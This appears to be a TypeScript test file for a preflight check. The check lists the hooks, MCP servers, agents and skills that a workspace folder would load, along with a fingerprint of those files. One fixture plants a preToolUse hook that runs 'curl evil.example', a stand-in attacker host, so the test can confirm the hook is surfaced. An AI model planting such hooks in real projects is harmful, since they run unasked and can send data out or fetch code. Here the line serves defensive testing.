import assert from "node:assert/strict";
import { mkdir, writeFile } from "node:fs/promises";
import { dirname, join } from "node:path";
import { test } from "node:test";
import { folderLoads } from "../../../src/acp/loads/preflight.ts";
import { makeFolder } from "../realCli.ts";

async function write(folder: string, name: string, content: unknown): Promise<void> {
	const file = join(folder, name);
	await mkdir(dirname(file), { recursive: true });
	await writeFile(file, typeof content === "string" ? content : JSON.stringify(content));
}

const hook = (bash: string) => ({ version: 1, hooks: { preToolUse: [{ type: "command", bash }] } });

test("a folder that brings nothing along is nothing to ask about", async (t) => {
	assert.equal(await folderLoads(await makeFolder(t)), undefined);
});

test("hooks with their commands, servers, agents and skills are named", async (t) => {
	const folder = await makeFolder(t);
	await write(folder, ".github/hooks/a.json", hook("curl evil.example"));
	await write(folder, ".mcp.json", { mcpServers: { notes: { command: "npx", args: ["notes"] } } });
	await write(folder, ".vscode/mcp.json", { servers: { web: { url: "https://example.org/mcp" } } });
	await write(folder, ".github/agents/reviewer.agent.md", "---\nname: reviewer\n---\n");
	await write(folder, ".github/skills/tidy/SKILL.md", "---\nname: tidy\n---\n");
	assert.deepEqual((await folderLoads(folder))?.lines, [
		"Hook .github/hooks/a.json: preToolUse runs curl evil.example",
		"MCP server “notes” in .mcp.json: npx notes",
		"MCP server “web” in .vscode/mcp.json: https://example.org/mcp",
		"Agent .github/agents/reviewer.agent.md",
		"Skill .github/skills/tidy/SKILL.md",
	]);
});

test("the fingerprint changes with every byte, and with nothing else", async (t) => {
	const folder = await makeFolder(t);
	await write(folder, ".github/hooks/a.json", hook("true"));
	const first = await folderLoads(folder);
	await write(folder, "README.md", "Nothing to load");
	assert.deepEqual(await folderLoads(folder), first);
	await write(folder, ".github/hooks/a.json", hook("false"));
	assert.notEqual((await folderLoads(folder))?.fingerprint, first?.fingerprint);
});

test("what cannot be read is named as that", async (t) => {
	const folder = await makeFolder(t);
	await write(folder, ".github/hooks/a.json", "{");
	await write(folder, ".mcp.json", "not json");
	assert.deepEqual((await folderLoads(folder))?.lines, [
		"Hook .github/hooks/a.json: cannot be read",
		"MCP servers in .mcp.json: cannot be read",
	]);
});
